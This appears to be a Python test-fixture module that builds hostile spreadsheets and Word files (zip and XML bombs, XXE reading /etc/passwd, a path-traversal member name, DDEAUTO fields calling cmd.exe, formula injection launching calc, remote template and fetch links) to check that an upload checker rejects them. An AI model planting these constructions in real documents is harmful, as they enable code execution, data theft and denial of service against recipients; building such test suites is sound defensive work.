"""Workbooks and parts that exhaust, hide or fetch something: how each is made from an ordinary file."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import openpyxl
from planted import excel_parts, rezip, unzip, word_parts

SHEET = "xl/worksheets/sheet1.xml"
READ = "read as if it were not there"


@dataclass(frozen=True)
class Bomb:
    """A workbook given as a roster: what it is, its bytes, and the code that refuses it, or READ."""

    name: str
    make: Callable[[], bytes]
    met: str


def roster() -> dict[str, bytes]:
    """The parts of an ordinary roster of one unit."""
    book = openpyxl.Workbook()
    for row in (["code", "name", "class"], ["1", "甲局", "盟市"]):
        book.active.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return unzip(stream.getvalue())


def _with(end: str, more: str) -> Callable[[], bytes]:
    """The roster with something before or after an end tag of its sheet."""

    def make() -> bytes:
        parts = roster()
        assert end.encode() in parts[SHEET]
        return rezip({**parts, SHEET: parts[SHEET].replace(end.encode(), more.encode(), 1)})

    return make


def _after(more: str) -> Callable[[], bytes]:
    return _with("</sheetData>", f"</sheetData>{more}")


def _rows(more: str) -> Callable[[], bytes]:
    return _with("</sheetData>", f"{more}</sheetData>")


def _part(name: str, data: bytes) -> Callable[[], bytes]:
    return lambda: rezip({**roster(), name: data})


def _overlapping() -> bytes:
    """Ten names in the directory for one packed member."""
    data = bytearray(rezip({**roster(), "xl/bomb.bin": bytes(900_000)}))
    end = data.rindex(b"PK\5\6")
    at = data.rindex(b"PK\1\2", 0, end)
    entry = bytes(data[at:end])
    names = b"".join(
        entry[:28] + struct.pack("<H", 12) + entry[30:46] + b"xl/bomb%d.bin" % n + entry[57:] for n in range(10)
    )
    count = struct.unpack_from("<H", data, end + 10)[0] + 9
    start = struct.unpack_from("<L", data, end + 16)[0]
    tail = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, at + len(names) - start, start, 0)
    return bytes(data[:at]) + names + tail


def _lied() -> bytes:
    """A member whose directory says that it is small."""
    data = bytearray(rezip({**roster(), "xl/bomb.bin": bytes(5_000_000)}))
    at = data.rindex(b"PK\1\2")
    struct.pack_into("<L", data, at + 24, 10)
    return bytes(data)


def _stored_twice() -> bytes:
    stream = io.BytesIO(rezip(roster()))
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("XL/WORKSHEETS/SHEET1.XML", roster()[SHEET])
    return stream.getvalue()


BOMBS = [
    Bomb(
        "the whole sheet merged",
        _after('<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        "merged-cell",
    ),
    Bomb(
        "half the sheet merged",
        _after('<mergeCells count="1"><mergeCell ref="A1:ZZ20000"/></mergeCells>'),
        "merged-cell",
    ),
    Bomb(
        "a link over the whole sheet",
        _after('<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>'),
        READ,
    ),
    Bomb(
        "a list over the whole sheet",
        _after(
            '<dataValidations count="1"><dataValidation type="list" sqref="A1:XFD1048576"><formula1>"a"</formula1>'
            "</dataValidation></dataValidations>"
        ),
        READ,
    ),
    Bomb("a size that is a lie", _with('<dimension ref="A1:C2"', '<dimension ref="A1:XFD1048576"'), READ),
    Bomb("a blank cell in the last place", _rows('<row r="1048576"><c r="XFD1048576"/></row>'), READ),
    Bomb("a value in the last row", _rows('<row r="1048576"><c r="A1048576"><v>1</v></c></row>'), "too-large"),
    Bomb("a value in a far column", _rows('<row r="3"><c r="XFD3"><v>1</v></c></row>'), "too-large"),
    Bomb("a million blank rows", _rows("".join(f'<row r="{n}"/>' for n in range(3, 1_000_000))), READ),
    Bomb(
        "thirty thousand units",
        _rows("".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(3, 30_000))),
        "too-large",
    ),
    Bomb("a part of forty megabytes", _part("xl/media/a.png", bytes(40_000_000)), "file-hostile"),
    Bomb("members that overlap", _overlapping, "file-hostile"),
    Bomb("a member that lies about its size", _lied, "file-damaged"),
    Bomb("two parts of one name", _stored_twice, "file-hostile"),
    Bomb(
        "three thousand parts", lambda: rezip({**roster(), **{f"xl/{n}.bin": b"" for n in range(3000)}}), "file-hostile"
    ),
    Bomb("a name that climbs", _part("../../etc/cron.d/x", b"x"), "file-hostile"),
    Bomb("a text of forty megabytes", _rows(f"<!--{' ' * 40_000_000}-->"), "file-hostile"),
    Bomb("ten thousand levels", _rows("<a>" * 10_000 + "</a>" * 10_000), "file-damaged"),
    Bomb("a comment that is all cells", _after("<!--" + "<c " * 300_000 + "-->"), READ),
    Bomb("a comment that is all cells with a place", _after("<!--" + '<c r="A1" ' * 100_000 + "/-->"), READ),
    Bomb(
        "a value in a far row, without its place",
        _rows('<row r="30000"><c t="inlineStr"><is><t>999</t></is></c></row>'),
        "too-large",
    ),
    Bomb("a cell twice", _rows('<row r="3"><c r="A3"><v>1</v></c><c r="A3"><v>2</v></c></row>'), "roster-unreadable"),
    Bomb("a row twice", _rows('<row r="2"><c r="A2"><v>1</v></c></row>'), "roster-unreadable"),
    Bomb("a cell of another row", _rows('<row r="3"><c r="A4"><v>1</v></c></row>'), "roster-unreadable"),
    Bomb("a number beyond all others", _rows('<row r="3"><c r="A3"><v>1e999999</v></c></row>'), "roster-unreadable"),
    Bomb("two million blank cells", _rows('<row r="3">' + "<c/>" * 2_000_000 + "</row>"), "file-hostile"),
    Bomb("a row that is no number", _rows('<row r="x"><c r="A3"><v>1</v></c></row>'), "roster-unreadable"),
    Bomb("a text that is not there", _rows('<row r="3"><c r="A3" t="s"><v>999999</v></c></row>'), "roster-unreadable"),
]

_LOL = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
XML_BOMBS = {
    "an entity": b'<!DOCTYPE a [<!ENTITY b "c">]>',
    "a billion laughs": f'<!DOCTYPE a [<!ENTITY l0 "lol">{_LOL}]>'.encode(),
    "a quadratic blow-up": b'<!DOCTYPE a [<!ENTITY b "' + b"x" * 50_000 + b'">]>',
    "a file of this machine": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "an address": b'<!DOCTYPE a SYSTEM "http://example.com/a.dtd">',
    "a parameter entity": b'<!DOCTYPE a [<!ENTITY % b SYSTEM "file:///etc/passwd"> %b;]>',
    "a document type in lower case": b'<!doctype a [<!entity b "c">]>',
}
"""What stands in front of the root element."""

ENCODINGS = {
    "UTF-16": lambda data: data.decode().encode("utf-16"),
    "UTF-16 without a mark": lambda data: data.decode().encode("utf-16-le"),
    "UTF-32": lambda data: data.decode().encode("utf-32"),
    "declared as UTF-7": lambda data: b'<?xml version="1.0" encoding="UTF-7"?>' + data,
    "declared as GBK": lambda data: b'<?xml version="1.0" encoding="gbk"?>' + data,
    "declared as EBCDIC": lambda data: b"<?xml version='1.0' encoding='cp037'?>" + data,
}
"""Encodings in which a document type would not be seen."""

DOCUMENT, RELS, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"


def word_by_type() -> dict[str, bytes]:
    """A Word document whose main part is XML by nothing but its content type."""
    parts = {name: data.replace(b"word/document.xml", b"word/document.dat") for name, data in word_parts().items()}
    parts["word/document.dat"] = parts.pop(DOCUMENT).partition(b"?>")[2].strip()
    parts["word/_rels/document.dat.rels"] = parts.pop(RELS)
    return parts


FILES = {"Word": word_parts, "Excel": excel_parts, "Word by type": word_by_type}
"""An ordinary file of each program, as parts."""

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
_RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'


def _related(
    kind: str, target: str, mode: str = "", rels: str = RELS, parts: Callable[[], dict[str, bytes]] = word_parts
) -> Callable[[], bytes]:
    """An ordinary file with one more relationship; `kind` is its whole type, or the last word of one of Office's."""
    mode = f' TargetMode="{mode}"' if mode else ""
    kind = kind if ":" in kind else f"{_R}/{kind}"
    relation = f'<Relationship Id="rId990" Type="{kind}" Target="{target}"{mode}/></Relationships>'

    def make() -> bytes:
        found = parts()
        known = found.get(rels, _RELATIONS.encode())
        return rezip({**found, rels: known.replace(b"</Relationships>", relation.encode())})

    return make


def _edited(
    part: str, old: str, new: str, parts: Callable[[], dict[str, bytes]] = word_parts
) -> Callable[[], dict[str, bytes]]:
    def make() -> dict[str, bytes]:
        found = parts()
        assert old.encode() in found[part]
        return {**found, part: found[part].replace(old.encode(), new.encode(), 1)}

    return make


def _zipped(parts: Callable[[], dict[str, bytes]]) -> Callable[[], bytes]:
    return lambda: rezip(parts())


_LINKED_PICTURE = _edited(DOCUMENT, 'r:id="rId90"', 'r:id="rId990"')
_MARKS = {
    "{": '<w:fldChar w:fldCharType="begin"/>',
    "|": '<w:fldChar w:fldCharType="separate"/>',
    "}": '<w:fldChar w:fldCharType="end"/>',
}


def _in_field(*runs: str) -> Callable[[], dict[str, bytes]]:
    """A Word document with a field cut into these pieces; `{`, `|` and `}` begin, separate and end one.

    A piece is an instruction, or text where it begins with `=`.
    """
    xml = ""
    for run in runs:
        kind, text = ("t", run[1:]) if run.startswith("=") else ("instrText", run)
        xml += f"<w:r>{_MARKS.get(run, f'<w:{kind}>{text}</w:{kind}>')}</w:r>"
    return _edited(DOCUMENT, "<w:tbl>", f"<w:p>{xml}</w:p><w:tbl>")


def _field(*runs: str) -> Callable[[], bytes]:
    return _zipped(_in_field(*runs))


def _moved(parts: Callable[[], dict[str, bytes]], old: str, new: str) -> Callable[[], bytes]:
    """The same file with its parts in another folder."""

    def make() -> bytes:
        found = {}
        for name, data in parts().items():
            moved = data.replace(f"{old}/".encode(), f"{new}/".encode()) if name in ("_rels/.rels", TYPES) else data
            found[f"{new}/{name.removeprefix(f'{old}/')}" if name.startswith(f"{old}/") else name] = moved
        return rezip(found)

    return make


def _strict() -> bytes:
    """A field in the namespace of the Strict standard, a letter of which is written as a number."""
    parts = _in_field("{", " DDEAUTO c:\\\\cmd.exe ", "}")()
    spelt = b"http://purl.oclc.org/ooxml/wordprocessingml/mai&#110;"
    transitional = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return rezip({**parts, DOCUMENT: parts[DOCUMENT].replace(transitional, spelt)})


def _by_type() -> bytes:
    parts = word_by_type()
    field = "<w:p><w:fldSimple w:instr='DDE excel a'/></w:p><w:tbl>"
    part = "word/document.dat"
    return rezip({**parts, part: parts[part].replace(b"<w:tbl>", field.encode(), 1)})


def _with_formula(text: str) -> Callable[[], dict[str, bytes]]:
    cell = f'<row r="900"><c r="A900"><f>{text}</f></c></row></sheetData>'
    return _edited(SHEET, "</sheetData>", cell, excel_parts)


def _formula(text: str) -> Callable[[], bytes]:
    return _zipped(_with_formula(text))


def _in_sheet(xml: str) -> Callable[[], bytes]:
    return _zipped(_edited(SHEET, "<pageMargins", f"{xml}<pageMargins", excel_parts))


def _chart(workbook: Callable[[], bytes]) -> Callable[[], bytes]:
    """A Word document with a chart, whose data are this workbook."""
    chart = b'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>'
    inner = _RELATIONS.replace(
        "></", f'><Relationship Id="r1" Type="{_R}/package" Target="../embeddings/a.xlsx"/></'
    ).encode()

    def make() -> bytes:
        more = {"word/charts/chart1.xml": chart, "word/charts/_rels/chart1.xml.rels": inner}
        return _related(
            "chart", "charts/chart1.xml", parts=lambda: {**word_parts(), **more, "word/embeddings/a.xlsx": workbook()}
        )()

    return make


_PICT = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"{}></v:shape></w:pict></w:r></w:p><w:tbl>'
_SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'


ACTIVE: dict[str, Callable[[], bytes]] = {
    "a macro": lambda: rezip({**word_parts(), "word/vbaProject.bin": b"x"}),
    "a macro in a workbook": lambda: rezip({**excel_parts(), "xl/vbaProject.bin": b"x"}),
    "a control": lambda: rezip({**word_parts(), "word/activeX/activeX1.bin": b"x"}),
    "a macro by another name": _related(f"{_MICROSOFT}/vbaProject", "media/image1.png"),
    "a document said to hold macros": _zipped(
        _edited(
            TYPES, "openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main"
        )
    ),
    "a sheet of macros": _related(
        f"{_MICROSOFT}/xlMacrosheet", "worksheets/sheet2.xml", rels="xl/_rels/workbook.xml.rels", parts=excel_parts
    ),
    **{
        f"{kind} outside": _related(kind, "http://example.com/x", "External")
        for kind in ("image", "attachedTemplate", "oleObject", "frame", "subDocument", "aFChunk", "video", "audio")
    },
    **{
        f"{kind} within": _related(kind, "media/image1.png")
        for kind in ("oleObject", "package", "aFChunk", "subDocument", "control", "mailMergeSource", "foo")
    },
    "a picture by the relationship of a link": _related(
        "hyperlink", "http://example.com/a.png", "External", parts=_LINKED_PICTURE
    ),
    "a picture outside in small letters": _related("image", "http://example.com/a.png", "external"),
    "a picture at an address said to be within": _related("image", "http://example.com/a.png"),
    "a picture on a server said to be within": _related("image", "\\\\example.com\\share\\a.png"),
    **{
        f"a link to {target}": _related("hyperlink", target, "External")
        for target in ("file:///C:/a.exe", "file://///server/a.exe", "ms-msdt:/id x", "javascript:alert(1)", "a.exe")
    },
    "a template of the whole package": _related(
        "attachedTemplate", "http://example.com/a.dotm", "External", "_rels/.rels"
    ),
    "a preview outside": _related("metadata/thumbnail", "http://example.com/a.png", "External", "_rels/.rels"),
    "a task pane": _related(
        "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/a.xml", rels="_rels/.rels"
    ),
    "a ribbon of its own": _related(f"{_MICROSOFT}/ui/extensibility", "customUI/customUI.xml", rels="_rels/.rels"),
    "a template by a name in capitals": _related(
        "attachedTemplate", "http://example.com/a.dotm", "External", "word/_rels/Settings.xml.rels"
    ),
    "a template by a folder in capitals": _related(
        "attachedTemplate", "http://example.com/a.dotm", "External", "word/_RELS/settings.xml.rels"
    ),
    "a link to another workbook": _related(
        "externalLink", "styles.xml", rels="xl/_rels/workbook.xml.rels", parts=excel_parts
    ),
    "a connection": _related("connections", "styles.xml", rels="xl/_rels/workbook.xml.rels", parts=excel_parts),
    "another document, by an odd relationship": _related(
        "image",
        "media/image1.png",
        parts=_edited(DOCUMENT, "<w:tbl>", '<w:altChunk r:id="rId990" xmlns:r="x"/><w:tbl>'),
    ),
    "a source of mail merge": _zipped(
        _edited(
            "word/settings.xml", "<w:defaultTabStop", '<w:mailMerge><w:query w:val="x"/></w:mailMerge><w:defaultTabStop'
        )
    ),
    "a picture by its address alone": _zipped(
        _edited(DOCUMENT, "<w:tbl>", _PICT.format("><v:imagedata src='http://example.com/a.png'/"))
    ),
    "a drawing that links to a file": _zipped(_edited(DOCUMENT, "<w:tbl>", _PICT.format(" href='file:///C:/a.exe'"))),
    "a drawing that fetches": lambda: rezip(
        {**word_parts(), "word/media/a.svg": _SVG.format('<image href="http://example.com/a.png"/>').encode()}
    ),
    "a drawing with a script": lambda: rezip(
        {**word_parts(), "word/media/a.svg": _SVG.format("<script>x</script>").encode()}
    ),
    "a chart with a workbook that fetches": _chart(_formula('WEBSERVICE("http://example.com")')),
    "a chart with a workbook with macros": _chart(lambda: rezip({**excel_parts(), "xl/vbaProject.bin": b"x"})),
    "DDE": _field("{", ' DDE excel "a" ', "}"),
    "DDEAUTO": _field("{", " DDEAUTO c:\\\\cmd.exe ", "}"),
    "DDEAUTO in small letters and quotation marks": _field("{", ' "ddeauto" c:\\\\cmd.exe ', "}"),
    "DDEAUTO cut into runs": _field("{", " DD", "EA", "UTO c:\\\\cmd.exe ", "}"),
    "DDEAUTO cut by a result": _field("{", " PAGE ", "{", " DDEAUTO x ", "}", "}"),
    "DDEAUTO by its characters' numbers": _field("{", "{", " QUOTE 68 68 69 65 85 84 79 ", "}", " c:\\\\cmd.exe ", "}"),
    "DDEAUTO without a begin": _field(" DDEAUTO c:\\\\cmd.exe "),
    "DDEAUTO without an end": _field("{", " DDEAUTO c:\\\\cmd.exe "),
    "INCLUDEPICTURE": _field("{", ' INCLUDEPICTURE "http://example.com/a.png" ', "}"),
    "INCLUDETEXT": _field("{", ' INCLUDETEXT "c:\\\\a.docx" ', "}"),
    "LINK": _field("{", " LINK Excel.Sheet.12 a.xlsx ", "}"),
    "IMPORT": _field("{", " IMPORT a.png ", "}"),
    "DATABASE": _field("{", " DATABASE \\\\d a.mdb ", "}"),
    "MACROBUTTON": _field("{", " MACROBUTTON Run x ", "}"),
    "DDEAUTO as text": _field("{", "= DDEAUTO c:\\\\cmd.exe ", "|", "=x", "}"),
    "DDEAUTO half as text": _field("{", " DDEA", "=UTO c:\\\\cmd.exe ", "|", "=x", "}"),
    "DDEAUTO half by its characters' numbers": _field(
        "{", " DD", "{", " QUOTE 69 65 85 84 79 ", "}", " c:\\\\cmd.exe ", "}"
    ),
    "RD": _field("{", ' RD "c:\\\\a.docx" ', "}"),
    "PRINT": _field("{", " PRINT 27 ", "}"),
    "a field that nobody knows": _field("{", " FOO ", "}"),
    "HYPERLINK to a file": _field("{", ' HYPERLINK "file:///C:\\\\a.exe" \\o "甲" ', "|", "=甲", "}"),
    "HYPERLINK to what a field gives": _field("{", " HYPERLINK ", "{", " QUOTE 1 ", "}", "}"),
    "DDE in another folder": _moved(_in_field("{", " DDE excel a ", "}"), "word", "doc"),
    "DDE in a folder in capitals": _moved(_in_field("{", " DDE excel a ", "}"), "word", "Word"),
    "DDE in a part of another name": _by_type,
    "DDEAUTO in the names of another standard": _strict,
    "a formula that fetches": _formula('WEBSERVICE("http://example.com")'),
    "a formula that fetches in another folder": _moved(_with_formula('WEBSERVICE("http://a")'), "xl", "book"),
    "a formula that fetches between names of sheets": _formula("'a\"b'!A1&amp;WEBSERVICE(\"http://a\")&amp;'c\"d'!A1"),
    "a formula that fetches between names of columns": _formula('T[a"b]&amp;WEBSERVICE("http://a")&amp;T[c"d]'),
    "a formula that fetches a picture": _formula('_xlfn.IMAGE("http://example.com/a.png")'),
    "a formula that links to a file": _formula('HYPERLINK("file:///C:/a.exe","甲")'),
    "a rule that fetches": _in_sheet(
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://a")=1'
        "</formula></cfRule></conditionalFormatting>"
    ),
    "a choice that starts a program": _in_sheet(
        '<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>cmd|\'/c calc\'!A0</formula1>'
        "</dataValidation></dataValidations>"
    ),
    "a formula that starts a program": _formula("cmd|'/c calc'!A0"),
    "a formula that calls a library": _formula('CALL("Shell32","ShellExecuteA","J",1)'),
    "a formula that asks a server": _formula('RTD("x",,"y")'),
}
"""What would run, fetch or embed something when a recipient opens the file."""

HARMLESS: dict[str, Callable[[], bytes]] = {
    "a Word document with a link and a page number": lambda: rezip(word_parts()),
    "a workbook": lambda: rezip(excel_parts()),
    "fields of a table of contents": _field("{", ' TOC \\\\o "1-3" ', "{", ' PAGEREF _Toc1 "DDE" ', "}", "}"),
    "fields that reckon": _field("{", " = ", "{", " PAGE ", "|", "=3", "}", " - 1 ", "|", "=2", "}"),
    "a field without a word": _field("{", "|", "}"),
    "a field with its switch at once": _field("{", "PAGE\\\\* MERGEFORMAT", "}"),
    "a link by a field": _field("{", ' HYPERLINK "https://example.com" \\o "Note: 甲" ', "|", "=甲", "}"),
    "a link to a place by a field": _field("{", ' HYPERLINK \\l "_Toc1" ', "|", "=甲", "}"),
    "a link by mail": _related(
        "hyperlink",
        "mailto:a@example.com",
        "External",
        parts=_edited(
            DOCUMENT, 'w:hyperlink xmlns:r="' + _R + '" r:id="rId91"', 'w:hyperlink xmlns:r="' + _R + '" r:id="rId990"'
        ),
    ),
    "a chart with its workbook": _chart(lambda: rezip(excel_parts())),
    "a drawing of its own": lambda: rezip(
        {**word_parts(), "word/media/a.svg": _SVG.format('<use href="#a"/><a href="https://example.com"/>').encode()}
    ),
    "old drawings that are no XML": lambda: rezip(
        {**excel_parts(), "xl/drawings/vmlDrawing1.vml": b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><br></xml>'}
    ),
    "names of columns with marks": _formula("SUM(T['[a|b']],T[c|d])"),
    "a link by a formula": _formula('HYPERLINK("#甲!A1","Note: x")'),
    "a text with a bar": _formula('IF(A1="a|b","LINK|x","CALL (x)")'),
    "a sum": _formula("SUM(A1:A9)*(1+B1)"),
}
